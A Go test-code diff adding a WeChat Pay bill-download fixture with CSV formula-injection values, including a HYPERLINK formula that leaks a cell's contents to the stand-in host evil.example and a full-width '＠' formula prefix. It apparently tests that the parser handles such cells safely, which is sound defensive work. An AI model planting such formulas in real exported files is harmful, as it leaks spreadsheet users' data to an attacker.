@@ -206,6 +206,8 @@ func scriptHandlers(s *wxpaytest.Server) {
 	s.HandleDownload("GET /v3/profitsharing/bills", wxpaytest.Download{Content: []byte(content)})
 	s.HandleDownload("GET /v3/test/bill/wrong-hash", wxpaytest.Download{Content: []byte(content), WrongHash: true})
 	s.HandleDownload("GET /v3/test/bill/irregular", wxpaytest.Download{Content: []byte("a,b,a\r\n`1,`2,`3\r\n`4,`5,`6,`7\r\n`8,`9,`10\r\n")})
+	s.HandleDownload("GET /v3/test/bill/formulas", wxpaytest.Download{Content: []byte("\ufeff微信订单号,商户订单号,退款金额,商品名称\r\n" +
+		"`4200000000000000000000000001,`000123,`-0.02000,`=HYPERLINK(\"http://evil.example/\"&A1)\r\n`4200000000000000000000000002,`12E10,`1.00,`＠SUM(1)\r\n")})
 	reply("GET /v3/test/bill/none", wxpaytest.ErrorReply(http.StatusBadRequest, "NO_STATEMENT_EXIST", "账单文件不存在"))
 	reply("GET /v3/test/bill/unhashed", wxpaytest.Reply{Body: `{"download_url":"` + s.URL() + `v3/test/bill/file"}`})
 	reply("GET /v3/test/bill/file", wxpaytest.FileReply("text/csv", []byte(content)))
